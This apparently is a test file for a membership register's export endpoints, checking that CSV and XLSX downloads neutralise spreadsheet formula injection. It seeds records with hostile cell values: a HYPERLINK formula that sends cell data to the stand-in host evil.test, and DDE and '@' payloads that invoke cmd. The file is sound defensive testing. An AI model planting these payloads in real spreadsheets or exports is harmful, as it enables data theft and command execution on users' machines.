import { setTimeout as sleep } from 'node:timers/promises';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { sampleFile } from '#/cli/docs/sample-file.ts';
import { partsOf } from '#test/zip.ts';
import { type Attacked, attackedServer, token } from './attacked.ts';

// A register in which every text begins as a formula does; no file that leaves it holds one.

const formula = `=HYPERLINK("http://evil.test/?"&A1,"Đảng")`;
const dde = `+cmd|' /C calc'!A0`;
const at2 = `@SUM(1+1)*cmd`;

const hostileFile = sampleFile.map((line) => {
  const copy = structuredClone(line) as Record<string, Record<string, unknown>>;
  for (const part of ['unit', 'person'] as const)
    if (typeof copy[part]?.name === 'string')
      Object.assign(copy[part], { name: `${part === 'unit' ? dde : formula} ${copy[part].name}` });
  if (copy.paper !== undefined) Object.assign(copy.paper, { issuer: at2, number: formula, abstract: dde });
  return { ...copy, note: `-1+1${dde}` };
});

let at: Attacked;
beforeAll(async () => {
  at = await attackedServer(hostileFile);
});
afterAll(() => at.close());

async function get(url: string): Promise<Buffer> {
  const answer = await at.app.inject({ url, headers: token });
  expect(answer.statusCode, `${url} ${answer.body.slice(0, 300)}`).toBe(200);
  return answer.rawPayload;
}

/** Asks for a list in the background, and takes the file when it is written. */
async function exported(url: string, payload: object): Promise<Buffer> {
  const begun = await at.app.inject({ method: 'POST', url, headers: token, payload });
  expect(begun.statusCode, begun.body).toBe(200);
  const { id } = begun.json();
  for (let tries = 0; tries < 500; tries++) {
    const { state } = (await at.app.inject({ url: `/api/exports/${id}`, headers: token })).json();
    if (state === 'done') return get(`/api/exports/${id}/file`);
    expect(state).toBe('running');
    await sleep(20);
  }
  throw new Error('the export never came to an end');
}

async function expectNoFormula(file: Buffer): Promise<void> {
  const parts = await partsOf(file);
  const sheets = parts.filter(([name]) => name.startsWith('xl/worksheets/'));
  expect(sheets.length).toBeGreaterThan(0);
  for (const [name, xml] of sheets) expect([name, /<(\w+:)?f[\s/>]/.test(xml)]).toEqual([name, false]);
  for (const [name, xml] of parts) {
    if (name.endsWith('.rels')) expect([name, xml.includes('evil.test')]).toEqual([name, false]);
    expect(name).not.toMatch(/externalLink|vbaProject|connections/);
  }
}

const spans = 'from=2020-01-02&to=2020-12-31';

test.each(['template', 'clean-up-33', '7-hsdv'])('the workbook of members in the layout %s', async (layout) => {
  await expectNoFormula(await get(`/api/members/file?layout=${layout}&format=xlsx&unit=A&on=2020-12-31`));
});

test.each(['template', 'clean-up-33', '7-hsdv'])('the CSV of members in the layout %s', async (layout) => {
  const file = await get(`/api/members/file?layout=${layout}&format=csv&unit=A&on=2020-12-31`);
  const text = file.toString('utf8').replace(/^\ufeff/, '');
  expect(text).toContain('HYPERLINK');
  const rows: string[][] = parse(text, { delimiter: [';', ','], relaxColumnCount: true });
  const cells = rows.flat().filter((cell) => /^[\s"']*[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?[\d.,]*$/.test(cell));
  expect(cells.filter((cell) => !cell.startsWith("'"))).toEqual([]);
});

test('the list of members and the journal, written in the background', async () => {
  await expectNoFormula(
    await exported('/api/people/export', { unit: 'A', on: '2020-12-31', columns: ['name', 'unit'] }),
  );
  await expectNoFormula(await exported('/api/acts/export', {}));
});

test.each(['annual', 'form-1', 'form-2', 'form-3', 'form-4', 'form-5', 'form-7'])(
  'the workbook of the report %s',
  async (name) => {
    const sign = ['place', 'post', 'signer', 'preparer', 'phone']
      .map((key) => `sign=${encodeURIComponent(`${key}=${formula}`)}`)
      .join('&');
    await expectNoFormula(await get(`/api/reports/${name}/file?format=xlsx&unit=A&${spans}&${sign}`));
  },
);

test('forms to fill in', async () => {
  for (const kind of ['units', 'members']) await expectNoFormula(await get(`/api/import-templates/${kind}`));
  await expectNoFormula(await get('/api/imports/template'));
});
